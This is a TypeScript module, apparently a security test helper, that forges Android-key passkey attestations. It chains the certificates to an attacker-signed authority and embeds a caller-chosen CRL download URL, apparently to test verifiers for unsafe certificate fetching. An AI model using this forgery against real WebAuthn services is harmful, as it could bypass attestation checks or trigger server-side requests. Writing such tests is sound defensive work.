// Forges attestations of passkeys. Each has a certificate that an attacker has signed, and that names an address from which a list of
// revoked certificates (CRL) can be downloaded.
import { generateKeyPairSync, sign } from 'node:crypto';
import { bytes, type Attestation, type Attested } from './software-passkey.ts';

/** Encodes a value in DER (ITU-T X.690). */
function der(tag: number, ...parts: readonly Buffer[]): Buffer {
  const value = Buffer.concat(parts);
  const length = value.length < 128 ? [value.length] : [0x82, value.length >> 8, value.length & 0xff];
  return Buffer.concat([Buffer.from([tag, ...length]), value]);
}
const [SEQUENCE, SET, OCTETS, BITS] = [0x30, 0x31, 0x04, 0x03];
const object = (hex: string): Buffer => der(0x06, Buffer.from(hex, 'hex'));
const integer = (value: number): Buffer => der(0x02, Buffer.from([value]));
const enumerated = (value: number): Buffer => der(0x0a, Buffer.from([value]));

const ECDSA_WITH_SHA256 = der(SEQUENCE, object('2a8648ce3d040302'));
const VALIDITY = der(SEQUENCE, ...['200101000000Z', '490101000000Z'].map((time) => der(0x17, Buffer.from(time))));
const nameOf = (name: string): Buffer => der(SEQUENCE, der(SET, der(SEQUENCE, object('550403'), der(0x0c, Buffer.from(name)))));
const ISSUER = nameOf('Attacker');
const authority = generateKeyPairSync('ec', { namedCurve: 'P-256' });

/** Returns a certificate that the attacker's own authority has signed. */
function certificate({ subject, publicKey, extensions }: { subject: Buffer; publicKey: Buffer; extensions: readonly Buffer[] }): Buffer {
  const more = extensions.length === 0 ? [] : [der(0xa3, der(SEQUENCE, ...extensions))];
  const version = der(0xa0, integer(2));
  const content = der(SEQUENCE, version, integer(1), ECDSA_WITH_SHA256, ISSUER, VALIDITY, subject, publicKey, ...more);
  const signature = sign('sha256', content, authority.privateKey);
  return der(SEQUENCE, content, ECDSA_WITH_SHA256, der(BITS, Buffer.from([0]), signature));
}

/** The extension that Android adds to a certificate: it contains the hash of the client data. */
const keyDescription = (clientDataHash: Buffer): Buffer => {
  const levels = [integer(3), enumerated(0), integer(4), enumerated(0)];
  return der(SEQUENCE, ...levels, der(OCTETS, clientDataHash), der(OCTETS), der(SEQUENCE), der(SEQUENCE));
};

/** The extension that names the address of the list of revoked certificates. */
const revocationList = (url: string): Buffer => der(SEQUENCE, der(SEQUENCE, der(0xa0, der(0xa0, der(0x86, Buffer.from(url))))));

/** Returns the attestation 'android-key'. Its chain of certificates ends at the attacker's own authority. */
export const forgedAndroidKey =
  (url: string) =>
  ({ publicKey, clientDataHash, signature }: Attested): Attestation => {
    const extensions = [
      der(SEQUENCE, object('2b06010401d679020111'), der(OCTETS, keyDescription(clientDataHash))),
      der(SEQUENCE, object('551d1f'), der(OCTETS, revocationList(url))),
    ];
    const leaf = certificate({ subject: nameOf('Passkey'), publicKey, extensions });
    const root = certificate({ subject: ISSUER, publicKey: authority.publicKey.export({ type: 'spki', format: 'der' }), extensions: [] });
    const chain = Buffer.concat([Buffer.from([0x82]), bytes(leaf), bytes(root)]);
    return { fmt: 'android-key', statement: { alg: Buffer.from([0x26]), sig: bytes(signature), x5c: chain } };
  };
